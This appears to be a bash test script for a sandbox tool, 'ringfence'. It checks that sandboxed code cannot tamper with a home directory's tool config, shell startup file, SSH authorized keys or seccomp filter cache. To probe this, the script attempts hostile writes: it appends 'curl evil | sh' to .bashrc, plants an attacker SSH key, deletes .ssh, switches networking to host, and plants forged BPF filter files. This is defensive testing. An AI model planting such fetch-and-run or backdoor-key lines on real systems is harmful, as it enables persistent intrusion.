#!/usr/bin/env bash
# What configures the *next* sandbox stays out of this one's reach, even
# when the workspace is a home directory: ringfence's user config (a trusted
# layer), the seccomp filter cache, shell startup files, ~/.ssh.
. "$(dirname "$0")/../lib.sh"

home="$WS"  # the workspace plays a home directory
mkdir -p "$home/.config/ringfence" "$home/.ssh"
printf '{"network": "none"}\n' > "$home/.config/ringfence/config.json"
echo 'echo hello' > "$home/.bashrc"
echo 'ssh-ed25519 AAAA user@host' > "$home/.ssh/authorized_keys"
export RINGFENCE_HOME="$home/.ringfence"  # the instance root inside the workspace

expect_exit 0 "a sandbox whose workspace holds a home directory runs" \
    rf run --workspace "$home" -- sh -c '
        printf "{\"network\": \"host\"}\n" > .config/ringfence/config.json 2>/dev/null; echo "cfg=$?"
        echo "curl evil | sh" >> .bashrc 2>/dev/null; echo "rc=$?"
        echo "ssh-rsa EVIL" >> .ssh/authorized_keys 2>/dev/null; echo "ssh=$?"
        rm -rf .ssh 2>/dev/null; mv .bashrc x 2>/dev/null; echo done'
grep -q '"none"' "$home/.config/ringfence/config.json" && pass "ringfence's user config is unchanged" ||
    fail "ringfence's user config is unchanged"
grep -q evil "$home/.bashrc" && fail "~/.bashrc is unchanged" || pass "~/.bashrc is unchanged"
grep -q EVIL "$home/.ssh/authorized_keys" && fail "~/.ssh/authorized_keys is unchanged" ||
    pass "~/.ssh/authorized_keys is unchanged"
check "~/.ssh and ~/.bashrc still exist" test -f "$home/.ssh/authorized_keys" -a -f "$home/.bashrc"

# The seccomp filter cache is not used while the sandbox could write it:
# nothing is cached there, so nothing planted there is ever read.
rf run --workspace "$home" -- true
n=$(find "$home/.ringfence/cache" -name 'seccomp-*' 2>/dev/null | wc -l)
[ "$n" = 0 ] && pass "no filter cached where the sandbox can write" ||
    fail "no filter cached where the sandbox can write ($n files)"
# ... and a filter planted there changes nothing: nested user namespaces stay refused.
mkdir -p "$home/.ringfence/cache"
for f in $(seq 1 3); do printf '\x06\x00\x00\x00\x00\x00\xff\x7f' > "$home/.ringfence/cache/seccomp-planted$f.bpf"; done
expect_exit 1 "with planted cache files, the filter still refuses unshare -U" \
    rf run --workspace "$home" -- unshare -U true

# Outside the workspace the cache is used (the positive control).
export RINGFENCE_HOME="$SCRATCH/rfhome-outside"
rf run -- true
n=$(find "$RINGFENCE_HOME/cache" -name 'seccomp-*.bpf' 2>/dev/null | wc -l)
if [ "${RF_TEST_BACKEND:-native}" != native ]; then
    skip "control: a cache out of the sandbox's reach is used" "the $RF_TEST_BACKEND backend compiles its filter at every start"
else
    [ "$n" -ge 1 ] && pass "control: a cache out of the sandbox's reach is used" ||
        fail "control: a cache out of the sandbox's reach is used"
fi
